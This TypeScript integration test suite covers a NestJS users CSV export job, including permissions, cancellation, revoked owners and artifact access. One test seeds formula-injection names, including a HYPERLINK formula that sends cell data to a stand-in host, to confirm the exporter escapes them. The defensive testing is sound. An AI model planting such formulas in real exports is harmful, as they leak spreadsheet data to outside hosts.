import { getDataSourceToken } from '@nestjs/typeorm';
import { parse } from 'csv-parse/sync';
import { pbkdf2, randomUUID } from 'node:crypto';
import { promisify } from 'node:util';
import { DataSource } from 'typeorm';
import { Job } from '../../src/jobs/job.entity';
import { JobArtifact } from '../../src/jobs/job-artifact.entity';
import { JobsService } from '../../src/jobs/jobs.service';
import { JobRunner } from '../../src/jobs/jobs.runner';
import { USERS_EXPORT, USERS_EXPORT_COLUMNS } from '../../src/jobs/exports/users-export.job';
import { createOrganization, createServiceAccount, createStaff, createUser } from '../factories/accounts';
import { grantRole, orgScope } from '../permissions/grants';
import { jobSettings, waitFor } from '../utils/jobs-helpers';
import { GATED_EXPORT_JOB, jobGates, JobsTestModule } from '../utils/jobs-test.module';
import { createTestApp, TestApp } from '../utils/test-app';

jest.setTimeout(60_000);

describe.each([['in-process' as const], ['bull' as const]])('users.export with the %s queue', (adapter) => {
  let t: TestApp;
  let db: DataSource;

  beforeAll(async () => {
    t = await createTestApp({ settings: jobSettings(adapter), imports: [JobsTestModule] });
    db = t.app.get<DataSource>(getDataSourceToken());
  });
  afterAll(() => t?.close());

  const settled = (id: string) =>
    waitFor(
      async () => {
        const job = await db.getRepository(Job).findOneByOrFail({ id });
        return ['Succeeded', 'Failed', 'Canceled'].includes(job.state) && job;
      },
      30_000,
      `job ${id}`,
    );

  async function addUsers(organizationId: string, count: number): Promise<void> {
    await db.query(
      `INSERT INTO users (username, email, first_name, last_name, organization_id)
       SELECT 'u' || $2 || '-' || g, 'u' || g || '@example.edu', 'First, "quoted"', 'Last ' || g, $1
         FROM generate_series(1, $3) AS g`,
      [organizationId, randomUUID().slice(0, 8), count],
    );
  }

  it("exports an organization's users as CSV to the staff member who asked, with progress and a summary", async () => {
    const staff = await createStaff(t);
    const org = await createOrganization(t);
    const other = await createOrganization(t);
    await addUsers(org.id, 2500);
    await addUsers(other.id, 3);

    const res = await t.http.post(`/api/v1/organizations/${org.id}/users/export`).set(staff.auth).expect(202);
    expect(res.body).toMatchObject({
      name: 'users.export',
      state: expect.stringMatching(/Pending|In Progress|Succeeded/),
    });
    const job = await settled(res.body.job_id);
    expect(job).toMatchObject({
      state: 'Succeeded',
      completedSteps: 2500,
      totalSteps: 2500,
      organizationId: org.id,
      ownerId: staff.row.id,
    });

    const status = await t.http.get(`/api/v1/jobs/${job.id}`).set(staff.auth).expect(200);
    expect(status.body.text).toBe('Exported 2500 users.');
    const csvArtifact = status.body.artifacts.find((a: { name: string }) => a.name === 'users.csv');
    expect(csvArtifact.content_type).toBe('text/csv; charset=utf-8');
    const download = await t.http
      .get(`/api/v1/jobs/${job.id}/artifacts/users.csv`)
      .set(staff.auth)
      .buffer(true)
      .expect(200);
    expect(Number(download.headers['content-length'])).toBe(csvArtifact.size);
    const rows: Record<string, string>[] = parse(download.text, { columns: true });
    expect(Object.keys(rows[0])).toEqual([...USERS_EXPORT_COLUMNS]);
    expect(rows).toHaveLength(2500);
    expect(new Set(rows.map((r) => r.id)).size).toBe(2500);
    expect(rows[0].first_name).toBe('First, "quoted"');
    const [{ n }] = await db.query(
      `SELECT count(*)::int AS n FROM users WHERE organization_id = $1 AND id = ANY($2::uuid[])`,
      [org.id, rows.map((r) => r.id)],
    );
    expect(n).toBe(2500);
  });

  it('writes names that start like spreadsheet formulas as text, behind a single quote', async () => {
    const staff = await createStaff(t);
    const org = await createOrganization(t);
    const names = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+1', '-2+3', '@SUM(1,1)', '\tx', '\rx'];
    await db.query(
      `INSERT INTO users (username, first_name, last_name, organization_id)
       SELECT 'f' || $2 || '-' || n.i, n.name, 'Plain', $1 FROM unnest($3::text[]) WITH ORDINALITY AS n(name, i)`,
      [org.id, randomUUID().slice(0, 8), names],
    );
    const res = await t.http.post(`/api/v1/organizations/${org.id}/users/export`).set(staff.auth).expect(202);
    expect((await settled(res.body.job_id)).state).toBe('Succeeded');
    const download = await t.http
      .get(`/api/v1/jobs/${res.body.job_id}/artifacts/users.csv`)
      .set(staff.auth)
      .buffer(true)
      .expect(200);
    const rows: Record<string, string>[] = parse(download.text, { columns: true });
    expect(rows.map((r) => r.first_name).sort()).toEqual(names.map((n) => `'${n}`).sort());
    expect(rows.every((r) => r.last_name === 'Plain')).toBe(true);
  });

  it('ends Canceled, and the API keeps serving, when the cancel comes before the CSV reaches the artifact storage', async () => {
    const staff = await createStaff(t);
    const org = await createOrganization(t);
    await addUsers(org.id, 3);
    // The progress report after the first page sees a cancel...
    const name = `cancel_export_${org.id.replace(/-/g, '')}`;
    await db.query(
      `CREATE FUNCTION ${name}() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN NEW.cancel_requested_at := now(); RETURN NEW; END $$`,
    );
    await db.query(
      `CREATE TRIGGER ${name} BEFORE UPDATE OF completed_steps ON jobs FOR EACH ROW
        WHEN (NEW.completed_steps > 0 AND NEW.organization_id = '${org.id}') EXECUTE FUNCTION ${name}()`,
    );
    // ...while the artifact storage, as under load, still waits for the thread pool, so nothing reads the CSV yet.
    const busy = Array.from({ length: 8 }, () => promisify(pbkdf2)('busy', 'pool', 300_000, 32, 'sha512'));
    try {
      const res = await t.http.post(`/api/v1/organizations/${org.id}/users/export`).set(staff.auth).expect(202);
      expect((await settled(res.body.job_id)).state).toBe('Canceled');
    } finally {
      await Promise.all(busy);
      await db.query(`DROP TRIGGER ${name} ON jobs; DROP FUNCTION ${name}()`);
    }
    await t.http.get('/api/v1/auth/me').set(staff.auth).expect(200);
  });

  it('lets an organization admin export their organization, and hides other organizations as 404', async () => {
    const org = await createOrganization(t);
    const other = await createOrganization(t);
    await addUsers(org.id, 5);
    const admin = await createUser(t, { organizationId: org.id });
    await grantRole(t, admin.principal, 'organization_admin', orgScope(org));

    const res = await t.http.post(`/api/v1/organizations/${org.id}/users/export`).set(admin.auth).expect(202);
    const job = await settled(res.body.job_id);
    expect(job.state).toBe('Succeeded');
    await t.http.get(`/api/v1/jobs/${job.id}/artifacts/users.csv`).set(admin.auth).expect(200);

    const hidden = await t.http.post(`/api/v1/organizations/${other.id}/users/export`).set(admin.auth).expect(404);
    expect(hidden.body.error).toBe('not_found');
    await t.http.post(`/api/v1/organizations/${randomUUID()}/users/export`).set(admin.auth).expect(404);
  });

  it('answers an organization it hides exactly like one that does not exist', async () => {
    const org = await createOrganization(t);
    const other = await createOrganization(t);
    const admin = await createUser(t, { organizationId: org.id });
    await grantRole(t, admin.principal, 'organization_admin', orgScope(org));
    const plain = await createUser(t, { organizationId: org.id });

    for (const caller of [admin, plain]) {
      const hidden = await t.http.post(`/api/v1/organizations/${other.id}/users/export`).set(caller.auth).expect(404);
      const unknown = await t.http
        .post(`/api/v1/organizations/${randomUUID()}/users/export`)
        .set(caller.auth)
        .expect(404);
      expect(hidden.body).toEqual(unknown.body);
      expect(hidden.body).toEqual({ error: 'not_found', message: 'Organization not found.' });
    }
    const plainOwn = await t.http.post(`/api/v1/organizations/${org.id}/users/export`).set(plain.auth).expect(404);
    expect(plainOwn.body).toEqual({ error: 'not_found', message: 'Organization not found.' });
  });

  it("hides the organization's users from a member without the export permission", async () => {
    const org = await createOrganization(t);
    const plain = await createUser(t, { organizationId: org.id });
    const res = await t.http.post(`/api/v1/organizations/${org.id}/users/export`).set(plain.auth).expect(404);
    expect(res.body.error).toBe('not_found');
    await t.http.post(`/api/v1/organizations/${org.id}/users/export`).expect(401);
  });

  describe("follows the owner's current rights, not those they had when they asked", () => {
    it('fails at once, exporting nothing, a job whose owner lost the right or was deactivated before it ran', async () => {
      const org = await createOrganization(t);
      await addUsers(org.id, 3);
      const revoked = await createUser(t, { organizationId: org.id });
      const group = await grantRole(t, revoked.principal, 'organization_admin', orgScope(org));
      const deactivated = await createUser(t, { organizationId: org.id });
      await grantRole(t, deactivated.principal, 'organization_admin', orgScope(org));
      // Both could export when they asked; then, before a worker got to their jobs, one left the admin
      // group and the other was deactivated.
      await db.query('DELETE FROM group_memberships WHERE group_id = $1', [group]);
      await db.query('UPDATE users SET is_active = false WHERE id = $1', [deactivated.row.id]);
      const jobs = t.app.get(JobsService);
      for (const owner of [revoked, deactivated]) {
        // The job as the export route enqueues it.
        const { id } = await jobs.enqueue(
          USERS_EXPORT,
          { organizationId: org.id },
          { owner: owner.principal, organizationId: org.id, maxAttempts: 3 },
        );
        const job = await settled(id);
        expect(job).toMatchObject({
          state: 'Failed',
          attempts: 1,
          completedSteps: 0,
          error: "The job's owner may no longer export this organization's users.",
        });
        expect(await db.getRepository(JobArtifact).countBy({ jobId: id })).toBe(0);
      }
    });

    it('stops a running job at its next step once its owner loses the right, and fails it; a job whose owner keeps it goes on', async () => {
      const org = await createOrganization(t);
      const leaving = await createUser(t, { organizationId: org.id });
      const group = await grantRole(t, leaving.principal, 'organization_admin', orgScope(org));
      const staying = await createUser(t, { organizationId: org.id });
      await grantRole(t, staying.principal, 'organization_admin', orgScope(org));
      const jobs = t.app.get(JobsService);
      const enqueue = (owner: typeof leaving) =>
        jobs.enqueue(
          GATED_EXPORT_JOB,
          { organizationId: org.id },
          { owner: owner.principal, organizationId: org.id, maxAttempts: 3 },
        );
      const stopped = await enqueue(leaving);
      const kept = await enqueue(staying);
      await Promise.all([jobGates.arrived(stopped.id), jobGates.arrived(kept.id)]);

      // Both run, step 1 of 2 done. A heartbeat while both owners hold the right changes nothing; then
      // one leaves the admin group, and the next heartbeat sees it.
      const runner = t.app.get(JobRunner);
      await runner.beat();
      await db.query('DELETE FROM group_memberships WHERE group_id = $1', [group]);
      await runner.beat();
      jobGates.open(stopped.id);
      jobGates.open(kept.id);

      expect(await settled(stopped.id)).toMatchObject({
        state: 'Failed',
        attempts: 1,
        completedSteps: 1,
        error: "The job's owner may no longer export this organization's users.",
      });
      expect(await db.getRepository(JobArtifact).countBy({ jobId: stopped.id })).toBe(0);
      expect(await settled(kept.id)).toMatchObject({ state: 'Succeeded', attempts: 1, completedSteps: 2 });
      expect(await db.getRepository(JobArtifact).countBy({ jobId: kept.id, name: 'result' })).toBe(1);
    });

    it('runs the export of a service account that holds the role, and fails it once the account is deactivated', async () => {
      const org = await createOrganization(t);
      await addUsers(org.id, 2);
      const service = await createServiceAccount(t, org.id);
      await grantRole(t, service.principal, 'organization_admin', orgScope(org));
      const res = await t.http.post(`/api/v1/organizations/${org.id}/users/export`).set(service.auth).expect(202);
      expect(await settled(res.body.job_id)).toMatchObject({
        state: 'Succeeded',
        completedSteps: 2,
        ownerType: 'service_account',
      });
      await t.http.get(`/api/v1/jobs/${res.body.job_id}/artifacts/users.csv`).set(service.auth).expect(200);

      await db.query('UPDATE service_accounts SET is_active = false WHERE id = $1', [service.row.id]);
      const { id } = await t.app
        .get(JobsService)
        .enqueue(USERS_EXPORT, { organizationId: org.id }, { owner: service.principal, organizationId: org.id });
      expect(await settled(id)).toMatchObject({
        state: 'Failed',
        attempts: 1,
        error: "The job's owner may no longer export this organization's users.",
      });
    });

    it('closes the CSV to an owner who lost the right since; they still see the job, staff still download it', async () => {
      const staff = await createStaff(t);
      const org = await createOrganization(t);
      await addUsers(org.id, 4);
      const admin = await createUser(t, { organizationId: org.id });
      const group = await grantRole(t, admin.principal, 'organization_admin', orgScope(org));
      const res = await t.http.post(`/api/v1/organizations/${org.id}/users/export`).set(admin.auth).expect(202);
      const job = await settled(res.body.job_id);
      expect(job.state).toBe('Succeeded');
      const url = `/api/v1/jobs/${job.id}/artifacts/users.csv`;
      await t.http.get(url).set(admin.auth).expect(200);

      await db.query('DELETE FROM group_memberships WHERE group_id = $1', [group]);
      for (const name of ['users.csv', 'result']) {
        const refused = await t.http.get(`/api/v1/jobs/${job.id}/artifacts/${name}`).set(admin.auth).expect(403);
        expect(refused.body).toEqual({
          error: 'forbidden',
          message: "You may no longer export this organization's users, so this job's artifacts are closed to you.",
          details: { job_id: job.id },
        });
      }
      const status = await t.http.get(`/api/v1/jobs/${job.id}`).set(admin.auth).expect(200);
      expect(status.body.state).toBe('Succeeded');
      const download = await t.http.get(url).set(staff.auth).buffer(true).expect(200);
      expect(parse(download.text, { columns: true })).toHaveLength(5); // the four and the admin
    });
  });
});
